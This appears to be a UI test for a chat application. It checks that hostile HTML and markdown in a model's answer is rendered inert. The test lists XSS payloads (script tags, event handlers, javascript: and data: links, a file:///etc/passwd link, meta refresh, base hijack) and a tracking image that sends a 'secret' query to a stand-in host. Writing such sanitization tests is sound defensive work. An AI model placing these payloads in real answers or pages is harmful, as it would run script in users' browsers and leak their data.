import assert from 'node:assert/strict';
import { view } from '../support/view.ts';

/** What a hostile model, or a file that it was shown, may write into an answer. */
const hostile: string[] = [
  '<script>window.hit = "script"</script>',
  '<img src="https://evil.invalid/a.png" onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><circle /></svg>',
  '<iframe src="https://evil.invalid"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.invalid"><input name="a"></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.invalid">',
  '<base href="https://evil.invalid/">',
  '<a href="javascript:window.hit=1">click</a>',
  '[click](javascript:window.hit=1)',
  '[click](JaVaScRiPt:window.hit=1)',
  '[click](data:text/html,<script>window.hit=1</script>)',
  '[click](command:workbench.action.quit)',
  '[click](vscode://evil.invalid)',
  '[click](file:///etc/passwd)',
  '![tracking](https://evil.invalid/?q=secret)',
  '![x](data:image/svg+xml,<svg onload="window.hit=1">)',
  '[ref]: https://evil.invalid/pixel.png\n\n![ref]',
  '```html\n<script>window.hit = 1</script>\n```',
  '<details open ontoggle="window.hit = 1">x</details>',
  '<math><mtext><script>window.hit = 1</script></mtext></math>',
  '`` `<img src=x onerror=window.hit=1>` ``',
];

view('nothing that a hostile answer holds runs, loads or leads anywhere', async ({ workbench, endpoint, context }) => {
  const loaded: string[] = [];
  context.on('request', request => {
    if (request.url().includes('evil.invalid')) loaded.push(request.url());
  });
  const chat = await workbench.openChat();
  // Several in one answer, each with a text behind it that must still be there.
  const perAnswer = 6;
  for (let first = 0; first < hostile.length; first += perAnswer) {
    const texts = hostile.slice(first, first + perAnswer);
    const text = texts.map((each, index) => `Before ${index}\n\n${each}\n\nAfter ${index}`).join('\n\n');
    endpoint.faults.next({ kind: 'script', content: [{ type: 'text', text }] });
    await chat.ask('What do you say?');
    await chat.idle();
    const shown = await chat.answers.last().innerText();
    for (const index of texts.keys()) assert.ok(shown.includes(`After ${index}`), texts[index]);
    assert.deepEqual(await chat.frame.evaluate(traces), { hit: false, active: [], handlers: [], links: [] }, text);
  }
  assert.deepEqual(loaded, []);
});

/** What must not be on the page; looked for there. */
const traces = `({
  hit: 'hit' in globalThis,
  active: [...document.querySelectorAll('[role=log] :is(script, img, svg, iframe, style, form, input, meta, base, object, embed, math)')]
    .map(element => element.outerHTML),
  handlers: [...document.querySelectorAll('[role=log] *')].flatMap(element =>
    [...element.attributes].filter(attribute => attribute.name.startsWith('on')).map(attribute => attribute.name)),
  links: [...document.querySelectorAll('[role=log] a')].map(link => link.getAttribute('href') ?? '')
    .filter(href => !/^(https?|mailto):/.test(href)),
})`;
